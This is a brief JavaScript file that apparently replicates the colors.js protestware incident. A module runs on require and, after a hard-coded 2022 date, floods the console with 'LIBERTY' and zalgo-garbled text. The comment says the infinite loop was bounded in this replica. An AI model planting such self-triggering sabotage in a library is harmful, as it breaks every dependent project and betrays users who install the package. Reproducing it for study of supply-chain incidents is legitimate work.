const zalgo = require('./zalgo');
module.exports = function american() {
  // sabotage: spam the console forever after a date (bounded in this replica)
  if (Date.now() < Date.UTC(2022, 0, 8)) return;
  console.log('LIBERTY LIBERTY LIBERTY');
  for (let i = 666; i < 666 * 2; i++) {
    console.log(zalgo('Testing testing testing testing testing testing testing'));
  }
};
module.exports();
